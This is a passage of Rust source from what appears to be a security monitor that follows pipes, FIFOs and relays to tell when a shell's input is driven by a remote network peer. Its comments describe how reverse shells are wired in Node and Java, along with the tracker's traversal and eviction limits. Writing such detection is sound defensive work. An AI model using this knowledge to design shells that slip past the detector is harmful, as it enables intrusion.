            Arc::new(Binding {
                via: BindVia::Pipe,
                ..(*relay).clone()
            }),
            applied,
        );
        self.register_pipe_loop(pid, &relay, applied);
    }

    /// Interactive shells whose stdin pipe `writer` holds, started before it connected (node's
    /// `spawn` before `connect`, java's `Runtime.exec` before `new Socket`), become bound.
    fn bind_waiting_shells(
        &mut self,
        writer: Pid,
        conn: &Arc<Binding>,
        time: u64,
        applied: &mut Applied,
    ) {
        if !self.waiting_shells.iter().any(|(w, _, _)| *w == writer) {
            return;
        }
        let mut shells = Vec::new();
        self.waiting_shells.retain(|&(w, shell, generation)| {
            if w == writer {
                shells.push((shell, generation));
            }
            w != writer
        });
        for (shell, generation) in shells {
            let Some(p) = self.procs.get_mut(&shell) else {
                continue;
            };
            if p.generation != generation
                || p.exited.is_some()
                || p.stdin_writer != Some(writer)
                || p.binding().is_some()
                || p.container_id != conn.container_id
            {
                continue;
            }
            p.stdin_writer = None;
            p.inherited = Some(pipe_writer_binding(conn, time));
            p.bound_by_pipe = true;
            applied.newly_bound.push(shell);
            self.feed_from(shell, applied);
        }
    }

    fn is_interactive_shell(&self, exec: &ExecEvent) -> bool {
        self.cfg.shells.contains(exec.program())
            && ward_event::script::script_target(&exec.filename, &exec.binary.path, &exec.argv)
                .is_none()
    }

    /// A relay reading a pipe and writing the peer's data into a pipe or FIFO closes a loop:
    /// the process writing into the relay's stdin, with a pipe on its own stdin, is driven by
    /// the peer.
    fn register_pipe_loop(&mut self, relay_pid: Pid, relay: &Arc<Binding>, applied: &mut Applied) {
        let Some(r) = self.procs.get(&relay_pid) else {
            return;
        };
        let (Some(input), Some(_)) = (r.stdio[0].pipe_inode(), r.stdio[1].pipe_inode()) else {
            return;
        };
        let binding = Arc::new(Binding {
            via: BindVia::PipeLoop,
            ..(**relay).clone()
        });
        if self.relay_inputs.insert(input, binding.clone()).is_none() {
            self.relay_inputs_order.push_back(input);
            while self.relay_inputs_order.len() > self.cfg.max_fed_pipes {
                if let Some(old) = self.relay_inputs_order.pop_front() {
                    self.relay_inputs.remove(&old);
                    self.stats.fed_pipes_evicted += 1;
                }
            }
        }
        let writers: Vec<Pid> = self
            .procs
            .values()
            .filter(|w| w.pid != relay_pid && w.exited.is_none() && w.binding().is_none())
            .filter(|w| w.container_id == binding.container_id)
            .filter(|w| w.stdio[0].pipe_inode().is_some())
            .filter(|w| w.stdio[1..].iter().any(|s| s.pipe_inode() == Some(input)))
            .map(|w| w.pid)
            .collect();
        for w in writers {
            if let Some(wp) = self.procs.get_mut(&w) {
                wp.inherited = Some(binding.clone());
                wp.bound_by_pipe = true;
                applied.newly_bound.push(w);
            }
            self.feed_from(w, applied);
        }
    }

    /// A bound process's stdout pipe carries remote input to whoever reads it.
    fn feed_from(&mut self, pid: Pid, applied: &mut Applied) {
        let Some(b) = self.procs.get(&pid).and_then(|p| p.binding().cloned()) else {
            return;
        };
        let piped = Arc::new(Binding {
            via: BindVia::Pipe,
            ..(*b).clone()
        });
        self.feed_inode(pid, piped, applied);
    }

    /// Marks `writer`'s stdout pipe as fed and binds the processes that read it, transitively.
    fn feed_inode(&mut self, writer: Pid, binding: Arc<Binding>, applied: &mut Applied) {
        let mut work = vec![writer];
        let mut steps = 0;
        while let Some(w) = work.pop() {
            steps += 1;
            if steps > 64 {
                break;
            }
            let Some(inode) = self.procs.get(&w).and_then(|p| p.stdio[1].pipe_inode()) else {
                continue;
            };
            if self.fed.contains_key(&inode) {
                continue;
            }
            self.fed.insert(inode, binding.clone());
            self.fed_order.push_back(inode);
            while self.fed_order.len() > self.cfg.max_fed_pipes {
                if let Some(old) = self.fed_order.pop_front() {
                    self.fed.remove(&old);
                    self.stats.fed_pipes_evicted += 1;
                }
            }
            let readers: Vec<Pid> = self
                .procs
                .values()
                .filter(|r| r.pid != w && r.pid != binding.origin_pid && r.exited.is_none())
                .filter(|r| r.stdio[0].pipe_inode() == Some(inode))
                .filter(|r| r.container_id == binding.container_id)
                .map(|r| r.pid)
                .collect();
            for r in readers {
                let Some(rp) = self.procs.get_mut(&r) else {
                    continue;
                };
                if rp.binding().is_none() {
                    rp.inherited = Some(binding.clone());
                    rp.bound_by_pipe = true;
                    applied.newly_bound.push(r);
                }
                work.push(r);
            }
        }
    }
}

/// A pipe, FIFO or AF_UNIX socketpair on stdin (libuv, and so node, gives children
/// socketpairs for `stdio: "pipe"`).
fn reads_a_pipe(f: &ward_event::FdInfo) -> bool {
    f.pipe_inode().is_some() || f.kind == FdKind::UnixSocket
}

/// The binding of a shell whose stdin pipe is written by the holder of `conn`.
fn pipe_writer_binding(conn: &Arc<Binding>, time: u64) -> Arc<Binding> {
    Arc::new(Binding {
        via: BindVia::PipeWriter,
        since: time,
        ..(**conn).clone()
    })
}

/// The binding a process gets from its own stdin (fd 0): the peer can send what it reads.
fn own_binding(p: &Proc, via: BindVia, time: u64) -> Option<Arc<Binding>> {
    let inode = p.stdio[0].inode;
    let socket = p.stdio[0].remote_peer()?;
    let exec = p.exec.as_deref();
    Some(Arc::new(Binding {
        origin_pid: p.pid,
        origin_program: exec.map(|e| e.program().to_string()).unwrap_or_default(),
        origin_binary: exec.map(|e| e.binary.path.clone()).unwrap_or_default(),
        socket_inode: inode,
        socket,
        via,
        container_id: p.container_id.clone(),
        since: time,
    }))
}

#[cfg(test)]
mod tests;
